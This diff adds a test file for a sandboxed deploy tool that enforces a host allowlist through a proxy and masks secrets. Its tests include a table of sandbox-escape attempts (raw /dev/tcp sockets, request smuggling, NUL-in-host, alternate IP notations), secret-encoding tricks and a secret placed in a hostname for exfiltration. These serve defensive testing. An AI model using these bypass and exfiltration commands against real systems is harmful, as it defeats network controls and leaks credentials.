@@ -1,0 +1,224 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
+import http, { type IncomingMessage } from 'node:http';
+import { type AddressInfo, createServer, type Server } from 'node:net';
+import { join } from 'node:path';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import type { Reach } from '../../../src/spec/types.ts';
+import { noSshd, serveSsh } from '../git/ssh-server.ts';
+import { ok, run, scratch } from './support.ts';
+
+async function listening<T extends Server>(server: T, host = '127.0.0.1'): Promise<number> {
+  server.listen(0, host);
+  await once(server, 'listening');
+  onTestFinished(() => void server.close());
+  return (server.address() as AddressInfo).port;
+}
+
+/** A web server of the host that answers with what it was asked. */
+async function web(
+  answer = (request: IncomingMessage) => `${request.method} ${request.url} of ${request.headers.host}`,
+) {
+  return listening(http.createServer((request, response) => response.end(answer(request))));
+}
+
+const TREE = { 'package.json': '{"name":"shipped","version":"1.0.0"}' };
+
+async function deploy(
+  line: string,
+  reach: Reach & { readonly network?: boolean },
+  files: { [path: string]: string } = TREE,
+) {
+  const ship = { run: ['bash', '-c', line], network: false, ...reach };
+  return ok(scratch(files), 'bash-deploy', { name: 'ship' }, { config: { deploy: { ship } } });
+}
+
+test('a deploy command reaches its hosts through the proxy, and each is in the evidence', async () => {
+  const port = await web();
+  const { result, effects } = await deploy(`curl -sS http://127.0.0.1:${port}/a?b=c`, { hosts: [`127.0.0.1:${port}`] });
+  expect(result.stdout).toBe(`GET /a?b=c of 127.0.0.1:${port}`);
+  expect(effects).toEqual([{ path: `127.0.0.1:${port}`, op: 'connect' }]);
+  expect(result).not.toHaveProperty('refusedHosts');
+});
+
+test('any protocol goes through a tunnel', async () => {
+  const port = await listening(createServer((socket) => socket.end('hello\n')));
+  const { result } = await deploy(`/run/hopgate/tunnel 127.0.0.1 ${port} < /dev/null`, {
+    hosts: [`127.0.0.1:${port}`],
+  });
+  expect(result.stdout).toBe('hello\n');
+});
+
+test('a request for another host is refused, listed, and has its remedy', async () => {
+  const [listed, other] = [await web(), await web()];
+  const line = `curl -sS -o /dev/null -w '%{http_code}' --retry 0 http://127.0.0.1:${other}/; curl -sS -p http://127.0.0.1:${other}/`;
+  const { result, effects } = await deploy(line, { hosts: [`127.0.0.1:${listed}`] });
+  expect(result.stdout).toBe('403');
+  expect(result.exit).not.toBe(0);
+  expect(result.refusedHosts).toEqual([{ place: `127.0.0.1:${other}`, tries: 2, why: 'it is not a listed host' }]);
+  expect(result.remedy).toContain('deploy.ship.hosts');
+  expect(effects).toEqual([]);
+});
+
+/** Each line must print nothing of the server's. `$1` is the port of a server that is not listed, `$2` the listed one. */
+const WAYS_OUT: { readonly [how: string]: string } = {
+  'raw TCP to the host': 'exec 3<>/dev/tcp/127.0.0.1/$1 && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3',
+  'a tunnel to another port': '/run/hopgate/tunnel 127.0.0.1 $1 <<< "GET / HTTP/1.0"',
+  'a tunnel to localhost by name': '/run/hopgate/tunnel localhost $2 <<< "GET / HTTP/1.0"',
+  'a tunnel to ::1': '/run/hopgate/tunnel ::1 $2 <<< "GET / HTTP/1.0"',
+  'a tunnel to a mapped address': '/run/hopgate/tunnel ::ffff:127.0.0.1 $2 <<< "GET / HTTP/1.0"',
+  'an address in another notation':
+    'curl -sS --max-time 5 http://2130706433:$1/; curl -sS --max-time 5 http://0x7f.1:$1/',
+  'another host header': 'curl -sS -H "Host: 127.0.0.1:$1" http://127.0.0.1:$1/',
+  'a redirect': 'curl -sSL http://127.0.0.1:$2/redirect',
+  'a user name before the host': 'curl -sS "http://127.0.0.1:$2@127.0.0.1:$1/"',
+  'two lengths': `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'POST http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' $1 $1 >&3; timeout 2 cat <&3`,
+  'the origin form': `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\nConnection: close\\r\\n\\r\\n' $1 >&3; timeout 2 cat <&3`,
+  'a NUL in the host': `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT 127.0.0.1:%s\\0.x HTTP/1.1\\r\\n\\r\\n' $1 >&3; timeout 2 cat <&3`,
+  UDP: 'printf x > /dev/udp/127.0.0.1/$1; printf x > /dev/udp/10.0.0.1/53; cat < /dev/null',
+};
+
+test.each(Object.keys(WAYS_OUT))('no way out: %s', async (how) => {
+  let [seen, datagrams] = [0, 0];
+  const other = await web(() => `reached ${++seen}`);
+  const udp = createSocket('udp4').on('message', () => datagrams++);
+  await new Promise<void>((resolve) => udp.bind(other, '127.0.0.1', resolve));
+  onTestFinished(() => void udp.close());
+  const listed = await listening(
+    http.createServer((request, response) =>
+      request.url === '/redirect'
+        ? response.writeHead(302, { location: `http://127.0.0.1:${other}/` }).end()
+        : response.end('listed'),
+    ),
+  );
+  const line = `set -- ${other} ${listed}; ${WAYS_OUT[how]}`;
+  const { result } = await deploy(line, { hosts: [`127.0.0.1:${listed}`] });
+  expect({ seen, datagrams, reached: `${result.stdout}`.includes('reached') }).toEqual({
+    seen: 0,
+    datagrams: 0,
+    reached: false,
+  });
+});
+
+test('a listed name that leads to this machine is refused', async () => {
+  const port = await web();
+  const { result } = await deploy(`NO_PROXY= no_proxy= curl -sS http://localhost:${port}/`, {
+    hosts: [`localhost:${port}`],
+  });
+  expect(result.stdout).not.toContain('GET');
+  expect(result.refusedHosts).toEqual([
+    {
+      place: `localhost:${port}`,
+      tries: 1,
+      why: expect.stringMatching(/^it leads to (?:127\.0\.0\.1|::1), which is not public$/),
+    },
+  ]);
+});
+
+test('a listed name is reached if its address is listed, too', async () => {
+  const port = await web();
+  const hosts = [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`];
+  const { result } = await deploy(`curl -sS http://localhost:${port}/`, { hosts });
+  expect(result.stdout).toBe(`GET / of localhost:${port}`);
+});
+
+test('without hosts there is no proxy', async () => {
+  const { result } = await deploy('(: < /dev/tcp/127.0.0.1/3128) 2>&1; env | grep -i proxy; true', {});
+  expect(result.stdout).toMatch(/refused/i);
+  expect(result.stdout).not.toContain('PROXY=');
+});
+
+test('a command writes to its overlay, and nothing stays', async () => {
+  const { result } = await deploy('mkdir dist && echo built > dist/out && cat dist/out && rm package.json && ls', {});
+  expect(result).toMatchObject({ exit: 0, stdout: 'built\ndist\n' });
+});
+
+const TOKEN = 'npm_S3cret+Token/With=Odd Chars';
+
+test('a secret reaches the command and is masked in every form of it', async () => {
+  const shown = [
+    'echo "$TOKEN"',
+    'printf "%s" "$TOKEN" | base64 -w0; echo',
+    'printf "user:%s" "$TOKEN" | base64 -w0; echo',
+    'printf "us:%s\\n" "$TOKEN" | base64 -w0; echo',
+    'printf "%s" "$TOKEN" | base64 -w0 | tr +/ -_; echo',
+    'printf "%s" "$TOKEN" | od -An -tx1 | tr -d " \\n"; echo',
+    'echo "$TOKEN" >&2',
+    '[ "$TOKEN" = "$(cat expected)" ] && echo same',
+  ];
+  process.env['TEST_DEPLOY_TOKEN'] = TOKEN;
+  onTestFinished(() => void delete process.env['TEST_DEPLOY_TOKEN']);
+  const report = await deploy(shown.join('\n'), { env: { TOKEN: '${TEST_DEPLOY_TOKEN}' } }, { expected: `${TOKEN}\n` });
+  expect(report.result.stdout).toContain('same');
+  const text = JSON.stringify(report);
+  expect(text).toContain('${TEST_DEPLOY_TOKEN}');
+  for (const form of [TOKEN, Buffer.from(TOKEN).toString('base64').slice(4, -4), Buffer.from(TOKEN).toString('hex')])
+    expect(text).not.toContain(form);
+  expect(text).not.toContain(Buffer.from(`user:${TOKEN}`).toString('base64').slice(12, 24));
+});
+
+test('a secret in the name of a host is not recorded', async () => {
+  const port = await web();
+  process.env['TEST_DEPLOY_TOKEN'] = 'Abcdefgh12345';
+  onTestFinished(() => void delete process.env['TEST_DEPLOY_TOKEN']);
+  const reach = { hosts: [`127.0.0.1:${port}`], env: { TOKEN: '${TEST_DEPLOY_TOKEN}' } };
+  const report = await deploy('curl -sS http://$TOKEN.example.com/ > /dev/null', reach);
+  expect(JSON.stringify(report).toLowerCase()).not.toContain('abcdefgh12345');
+  expect(report.result.refusedHosts).toHaveLength(1);
+});
+
+test('a secret can come from a program of the operator', async () => {
+  const folder = scratch();
+  const program = join(folder, 'print-token');
+  writeFileSync(program, '#!/bin/sh\necho "token of $1"\n');
+  chmodSync(program, 0o755);
+  const report = await deploy('[ "$TOKEN" = "token of npm" ] && echo "$TOKEN"', {
+    secrets: { TOKEN: [program, 'npm'] },
+  });
+  expect(report.result.stdout).toBe('${TOKEN}\n');
+});
+
+test('a program that prints no secret stops the deploy', async () => {
+  const failing = deploy('echo ran', { secrets: { TOKEN: ['false'] } });
+  await expect(failing).rejects.toThrow(/deploy\.ship\.secrets\.TOKEN: false failed; ask the operator/);
+});
+
+describe.skipIf(noSshd !== null)('over ssh', () => {
+  const files = { 'site/index.html': '<h1>Hello</h1>\n', 'site/a.txt': 'a\n' };
+  test.each([
+    ['scp', 'scp -q -r -P PORT site USER@localhost:TARGET/'],
+    ['sftp', 'printf "put -r site TARGET/site\\n" | sftp -q -b - -P PORT USER@localhost'],
+    ['tar and ssh', 'tar c site | ssh -p PORT USER@localhost tar x -C TARGET'],
+    ...(existsSync('/usr/bin/rsync') ? [['rsync', 'rsync -a -e "ssh -p PORT" site USER@localhost:TARGET/']] : []),
+  ])('%s ships to a listed host with the configured key', async (_, line) => {
+    const target = scratch();
+    const { origin, key, knownHosts } = await serveSsh(scratch());
+    const { port, username } = new URL(origin);
+    const filled = line!.replaceAll('PORT', port).replaceAll('USER', username).replaceAll('TARGET', target);
+    const reach = { hosts: [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`], ssh: { key, knownHosts } };
+    const report = await deploy(`${filled}; code=$?; cat ${key}; exit $code`, reach, files);
+    expect(report.result).toMatchObject({ exit: 0, stderr: '' });
+    expect(readFileSync(join(target, 'site/index.html'), 'utf8')).toBe(files['site/index.html']);
+    expect(report.effects).toEqual([{ path: `localhost:${port}`, op: 'connect' }]);
+    for (const part of readFileSync(key, 'utf8').split('\n').slice(1, -2))
+      expect(JSON.stringify(report)).not.toContain(part);
+  });
+
+  test('a host that is not listed is not reached', async () => {
+    const { origin, key, knownHosts } = await serveSsh(scratch());
+    const { port, username } = new URL(origin);
+    const reach = { hosts: ['elsewhere.example:22'], ssh: { key, knownHosts } };
+    const { result } = await deploy(`ssh -p ${port} ${username}@localhost true`, reach);
+    expect(result.exit).toBe(255);
+    expect(result.stderr).toContain(`hopgate refuses localhost:${port}: it is not a listed host.`);
+    expect(result.refusedHosts).toHaveLength(1);
+  });
+
+  test('a key in the repository is refused', async () => {
+    const root = scratch({ key: 'x', known: 'x' });
+    const ship = { run: ['true'], network: false, ssh: { key: join(root, 'key'), knownHosts: join(root, 'known') } };
+    const { outcome } = await run(root, 'bash-deploy', { name: 'ship' }, { config: { deploy: { ship } } });
+    expect(outcome).toMatchObject({ status: 'failed', code: 'credential-in-reach' });
+  });
+});
